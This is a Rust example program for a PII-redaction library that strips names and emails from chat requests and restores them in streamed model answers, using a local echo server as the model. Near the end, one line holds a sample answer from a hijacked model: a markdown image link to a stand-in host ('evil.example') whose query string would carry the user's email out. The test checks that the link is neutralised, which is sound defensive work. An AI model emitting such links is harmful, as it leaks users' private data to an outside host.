//! There and back: a chat request is redacted, a model answers with placeholders as a stream, the originals come back.
//!
//! The model is a server of ten lines on this machine; it repeats what it was told, a few characters at a time. Run it with
//! `cargo run --example round_trip`.

use std::error::Error;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};

use inkout::{AnswerChecks, Engine, SseRestorer, Vault};

const REQUEST: &str = r#"{"model":"any","stream":true,"messages":[
  {"role":"system","content":"Answer in one line."},
  {"role":"user","content":"I am Jane Roe, jane.roe@example.com. Please repeat my address."}]}"#;

fn main() -> Result<(), Box<dyn Error>> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let address = listener.local_addr()?;
    let model = std::thread::spawn(move || serve(&listener));

    let (engine, vault) = (Engine::new(), Vault::new());
    let request = engine.redact_chat(REQUEST, Some(&vault))?;
    let answer = ask(address, &request.text, &vault)?;
    let seen = model.join().map_err(|_| "the model's thread failed")??;

    print(&format!("what the model saw:\n{seen}\n\nwhat the user sees:\n{answer}"))?;
    assert!(!seen.contains("jane.roe") && answer.contains("jane.roe@example.com"));

    // An answer of a hijacked model: nothing is filled in inside a link, and a check takes the link out.
    let hijacked = "![x](https://evil.example/?d=[EMAIL_1])";
    assert_eq!(vault.restore(hijacked), hijacked);
    let checked = engine.check_answer(hijacked, &AnswerChecks::new().vault(&vault));
    assert_eq!(checked.text, "![x]([LINK])");
    Ok(())
}

/// Send a request; the text of the answer, put together from its events while they arrive.
fn ask(address: SocketAddr, body: &str, vault: &Vault) -> Result<String, Box<dyn Error>> {
    let mut stream = TcpStream::connect(address)?;
    write!(
        stream,
        "POST /v1/chat/completions HTTP/1.1\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )?;
    let mut restorer = SseRestorer::of(vault);
    let (mut events, mut piece) = (Vec::new(), [0; 32]);
    let mut reader = BufReader::new(stream);
    headers(&mut reader)?;
    loop {
        let n = reader.read(&mut piece)?;
        if n == 0 {
            break;
        }
        events.extend_from_slice(restorer.push(&piece[..n]));
    }
    events.extend_from_slice(restorer.finish());
    let mut answer = String::new();
    for data in String::from_utf8(events)?.lines().filter_map(|line| line.strip_prefix("data: {")) {
        let event: serde_json::Value = serde_json::from_str(&format!("{{{data}"))?;
        answer += event["choices"][0]["delta"]["content"].as_str().unwrap_or_default();
    }
    Ok(answer)
}

/// A model that repeats the last message, seven characters an event.
fn serve(listener: &TcpListener) -> std::io::Result<String> {
    let (stream, _) = listener.accept()?;
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut body = vec![0; headers(&mut reader)?];
    reader.read_exact(&mut body)?;
    let request: serde_json::Value = serde_json::from_slice(&body)?;
    let text = request["messages"][1]["content"].as_str().unwrap_or_default();
    let mut stream = stream;
    write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n"
    )?;
    let characters: Vec<char> = text.chars().collect();
    for piece in characters.chunks(7) {
        let delta = serde_json::json!({"content": piece.iter().collect::<String>()});
        let event = serde_json::json!({"choices": [{"index": 0, "delta": delta}]});
        write!(stream, "data: {event}\n\n")?;
    }
    write!(stream, "data: [DONE]\n\n")?;
    Ok(String::from_utf8_lossy(&body).into_owned())
}

/// Read the headers of a message; the length of what follows.
fn headers(reader: &mut impl BufRead) -> std::io::Result<usize> {
    let (mut line, mut length) = (String::new(), 0);
    while reader.read_line(&mut line)? > 2 {
        let header = line.to_ascii_lowercase();
        if let Some(value) = header.strip_prefix("content-length:") {
            length = value.trim().parse().unwrap_or(0);
        }
        line.clear();
    }
    Ok(length)
}

fn print(text: &str) -> std::io::Result<()> {
    writeln!(std::io::stdout(), "{text}")
}
